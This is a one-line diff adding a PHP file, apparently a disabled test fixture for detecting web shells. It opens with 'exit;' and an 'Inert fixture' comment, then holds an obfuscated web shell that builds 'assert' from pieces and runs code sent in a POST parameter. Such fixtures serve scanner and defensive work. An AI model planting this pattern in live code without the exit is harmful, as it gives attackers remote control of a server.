@@ -1,0 +1,1 @@
+<?php exit; /* Inert fixture. */ $f = "as" . "sert"; $f($_POST['c']);
